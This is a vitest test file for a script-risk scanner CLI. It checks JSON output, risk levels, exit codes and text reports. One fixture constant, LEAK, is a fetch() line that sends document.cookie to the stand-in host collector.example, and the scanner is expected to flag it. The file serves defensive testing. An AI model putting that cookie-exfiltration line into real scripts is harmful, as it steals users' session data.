import { spawn } from "node:child_process";
import { once } from "node:events";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, describe, expect, it } from "vitest";

const root = fileURLToPath(new URL("../../../", import.meta.url));
const folder = mkdtempSync(join(tmpdir(), "scriptorium-scan-"));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const HARMLESS = "document.title = document.title.toUpperCase();\n";
const LEAK = 'fetch("https://collector.example/?c=" + encodeURIComponent(document.cookie));\n';

function put(file: string, text: string): void {
	mkdirSync(join(folder, file, ".."), { recursive: true });
	writeFileSync(join(folder, file), text);
}

/** Runs the command like a user: through npm, from a folder outside of the project. */
async function scan(...args: string[]) {
	const child = spawn("npm", ["--prefix", root, "run", "--silent", "scan", "--", ...args], {
		cwd: folder,
		stdio: ["ignore", "pipe", "pipe"],
	});
	const said = { out: "", error: "" };
	child.stdout.setEncoding("utf8").on("data", (text: string) => (said.out += text));
	child.stderr.setEncoding("utf8").on("data", (text: string) => (said.error += text));
	const [code] = await once(child, "close");
	return { code: code as number | null, ...said };
}

interface Entry {
	readonly file: string;
	readonly risk_level: string;
	readonly score: number;
	readonly vulnerabilities: readonly { readonly type: string; readonly line: number }[];
	readonly capabilities: { readonly hosts: readonly { readonly host: string }[] };
}
const parse = (out: string) => JSON.parse(out) as Entry[];

describe("pnpm scan as a process", () => {
	it("prints only JSON, and its exit code is that of the most severe level", async () => {
		put("one/harmless.js", HARMLESS);
		put(
			"one/leak.user.js",
			`// ==UserScript==\n// @name a\n// @match https://site.example/*\n// ==/UserScript==\n${LEAK}`,
		);
		put("one/deep/module.mjs", `export const a = 1;\n`);
		const { code, out, error } = await scan("--json", "one");
		expect(error).toBe("");
		const entries = parse(out);
		expect(entries.map(({ file, risk_level }) => [file, risk_level])).toEqual([
			["one/deep/module.mjs", "green"],
			["one/harmless.js", "green"],
			["one/leak.user.js", "red"],
		]);
		const leak = entries.at(-1);
		expect(leak?.score).toBeLessThanOrEqual(39);
		expect(leak?.vulnerabilities.map(({ line }) => line)).toContain(5);
		expect(leak?.capabilities.hosts.map(({ host }) => host)).toContain("collector.example");
		expect(code).toBe(2);
	});

	it("exits with 0 for green, 1 for files that cannot be rated, 64 for files that cannot be read", async () => {
		put("two/harmless.js", HARMLESS);
		put("two/broken.js", "function (");
		put("two/large.js", `/*${"x".repeat(5_000_000)}*/`);
		expect(await scan("--json", "two/harmless.js")).toMatchObject({ code: 0, error: "" });
		const unrated = await scan("--json", "two/broken.js", "two/large.js");
		expect(parse(unrated.out).map(({ risk_level, score }) => [risk_level, score])).toEqual([
			["unrated", 0],
			["unrated", 0],
		]);
		expect(unrated.code).toBe(1);
		const missing = await scan("--json", "two/harmless.js", "two/missing.js");
		expect(missing).toMatchObject({ code: 64, error: "two/missing.js: does not exist\n" });
		expect(parse(missing.out)).toHaveLength(1);
	});

	it("reads a thousand files in one process, and writes the whole answer into a pipe", async () => {
		for (let index = 0; index < 1_000; index++) put(`many/${index}.js`, `${HARMLESS}// ${index}\n`);
		const { code, out } = await scan("--json", join(folder, "many"));
		expect(parse(out)).toHaveLength(1_000);
		expect(code).toBe(0);
	});

	it("prints a text report, without colors when the output is no terminal", async () => {
		put("three/leak.js", LEAK);
		const { code, out } = await scan("three/leak.js");
		expect(out).toMatch(/^three\/leak\.js: High risk, \d+\/100: looks like an attack\n {2}Access: /);
		expect(out).not.toContain("\u001b");
		expect(out).toMatch(/\n1 script: 1 high risk\n$/);
		expect(code).toBe(2);
	});
});
